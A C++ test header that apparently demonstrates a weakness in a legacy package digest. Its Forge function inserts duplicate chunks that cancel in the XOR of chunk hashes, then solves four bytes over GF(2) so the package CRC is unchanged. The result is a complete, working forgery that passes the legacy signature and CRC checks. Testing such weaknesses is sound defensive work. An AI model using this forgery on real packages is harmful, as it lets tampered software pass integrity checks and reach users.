// The legacy digest's weakness, shown: a pair of identical 262144-byte chunks
// inserted before a package's last chunk cancels in the XOR of the chunk
// hashes, and four bytes at the start of both, solved over GF(2), keep the
// package CRC. The result passes the legacy signature and CRC checks.
#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <utility>

namespace pkgtest {

// CRC-32/MPEG-2 from byte 4096 on.
inline uint32_t BodyCrc(const std::string& f) {
    static const std::array<uint32_t, 256> table = [] {
        std::array<uint32_t, 256> t{};
        for (uint32_t i = 0; i < 256; ++i) {
            uint32_t r = i << 24;
            for (int k = 0; k < 8; ++k) r = (r << 1) ^ ((r >> 31) != 0 ? 0x04C11DB7u : 0u);
            t[i] = r;
        }
        return t;
    }();
    uint32_t reg = 0xFFFFFFFFu;
    for (size_t i = 4096; i < f.size(); ++i)
        reg = (reg << 8) ^ table[(reg >> 24) ^ static_cast<uint8_t>(f[i])];
    return reg;
}

// The CRC is affine in the 32 solved bits: column b is crc(bit b) ^ crc(0).
inline std::string Forge(const std::string& good) {
    constexpr size_t kChunk = 262144;
    const size_t at = (good.size() - 1) / kChunk * kChunk;
    const auto forged = [&](uint32_t v) {
        std::string chunk(kChunk, 'F');
        for (int i = 0; i < 4; ++i) chunk[i] = static_cast<char>(v >> (8 * i));
        return good.substr(0, at) + chunk + chunk + good.substr(at);
    };
    const uint32_t base = BodyCrc(forged(0)), want = BodyCrc(good);
    uint64_t rows[32] = {};  // row r: bit r of each column, the target in bit 32
    for (int b = 0; b < 32; ++b) {
        const uint32_t col = BodyCrc(forged(1u << b)) ^ base;
        for (int r = 0; r < 32; ++r) rows[r] |= static_cast<uint64_t>((col >> r) & 1u) << b;
    }
    for (int r = 0; r < 32; ++r) rows[r] |= static_cast<uint64_t>(((base ^ want) >> r) & 1u) << 32;
    for (int c = 0; c < 32; ++c) {  // Gauss-Jordan elimination
        int pivot = c;
        while (pivot < 32 && ((rows[pivot] >> c) & 1u) == 0) ++pivot;
        if (pivot == 32) return "";
        std::swap(rows[c], rows[pivot]);
        for (int r = 0; r < 32; ++r)
            if (r != c && ((rows[r] >> c) & 1u) != 0) rows[r] ^= rows[c];
    }
    uint32_t v = 0;
    for (int r = 0; r < 32; ++r) v |= static_cast<uint32_t>((rows[r] >> 32) & 1u) << r;
    return forged(v);
}

}  // namespace pkgtest
